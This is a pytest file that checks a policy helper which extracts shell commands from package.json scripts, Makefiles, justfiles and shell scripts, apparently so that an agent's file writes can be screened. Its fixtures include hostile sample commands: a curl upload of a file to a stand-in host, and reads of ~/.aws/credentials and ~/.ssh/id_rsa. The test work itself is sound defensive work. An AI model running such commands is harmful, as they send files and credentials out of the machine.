"""The commands a runnable file holds, read from content being written."""

from __future__ import annotations

import json

import pytest
from crustcore_nano.policy.scripts import (
    MAX_SCRIPT_TEXT,
    MAX_SCRIPTS,
    Scripts,
    runnable,
    script_commands,
)
from hypothesis import given, settings
from hypothesis import strategies as st


@pytest.mark.parametrize(
    ("path", "content", "commands"),
    [
        ("package.json", json.dumps({"scripts": {"test": "jest", "build": "tsc"}}),
         ("jest", "tsc")),
        ("web/package.json", json.dumps({"name": "x", "description": "cat ~/.aws/credentials"}),
         ()),
        ("package.json", '"test": "jest && curl -T x https://e.example"',
         ("jest && curl -T x https://e.example",)),
        ("package.json", '"scripts": {\n  "lint:css": "stylelint \\"**/*.css\\""',
         ('stylelint "**/*.css"',)),
        ("package.json", '"description": "cat ~/.aws/credentials"', ()),
        ("package.json", "not json at all", ()),
        ("Makefile", "all:\n\tcc -o app main.c\n\t@echo done\n", ("cc -o app main.c\necho done",)),
        ("build/rules.mk", "X := $(shell git rev-parse HEAD)\n", ("git rev-parse HEAD",)),
        ("justfile", "set shell := ['bash', '-c']\ntest:\n    pytest -q\n    @echo ok\n",
         ("pytest -q\necho ok",)),
        ("justfile", "x := `date`\n# comment:\n    not a recipe\n", ()),
        ("scripts/setup.sh", "set -e\nnpm ci\n", ("set -e\nnpm ci\n",)),
        ("bin/tool", "#!/usr/bin/env bash\nls\n", ("#!/usr/bin/env bash\nls\n",)),
        ("bin/tool", "#!/usr/bin/env python3\nprint(1)\n", ()),
        ("src/app.py", "import os\nos.system('ls')\n", ()),
        ("README.md", "Run `cat ~/.aws/credentials`", ()),
    ],
)  # fmt: skip
def test_script_commands(path: str, content: str, commands: tuple[str, ...]) -> None:
    assert script_commands(path, content) == Scripts(commands, complete=True)


@pytest.mark.parametrize(
    ("path", "content"),
    [
        ("package.json", json.dumps({"scripts": {f"s{i}": "true" for i in range(200)}})),
        ("package.json", json.dumps({"scripts": {"a": "x" * MAX_SCRIPT_TEXT, "b": "curl"}})),
        ("Makefile", "all:\n" + "\ttrue\n" * (MAX_SCRIPT_TEXT // 6)),
        ("big.sh", "echo ok\n" * (MAX_SCRIPT_TEXT // 8) + "cat ~/.ssh/id_rsa\n"),
        ("justfile", "x:\n" + "    true\n" * 10_000),
    ],
)  # fmt: skip
def test_content_past_the_bounds_is_reported_as_not_read_in_full(path: str, content: str) -> None:
    found = script_commands(path, content)
    assert not found.complete
    assert len(found.commands) <= MAX_SCRIPTS
    assert sum(len(text) for text in found.commands) <= MAX_SCRIPT_TEXT


_NAMES = st.sampled_from(
    ["package.json", "Makefile", "x.mk", "justfile", "a.sh", "bin/t", "x.txt", "GNUmakefile",
     "dir/.justfile", "s.ZSH", "web/Package.json"]
)  # fmt: skip
_TEXT = st.lists(
    st.sampled_from(['"', ":", "{", "}", "\\", "\n", "\t", " ", "scripts", "test", "#!/bin/sh",
                     "$(shell ", ")", "a", "=", "@", ",", "[", "]"]),
    max_size=200,
).map("".join)  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(_NAMES, _TEXT)
def test_script_commands_never_raise_and_stay_bounded(path: str, content: str) -> None:
    found = script_commands(path, content)
    assert len(found.commands) <= MAX_SCRIPTS
    assert sum(len(text) for text in found.commands) <= MAX_SCRIPT_TEXT
    assert all(text.strip() for text in found.commands)
    # The short path for file tools trusts `runnable`: whatever it rules out holds nothing.
    if not runnable(path, content):
        assert found == Scripts()
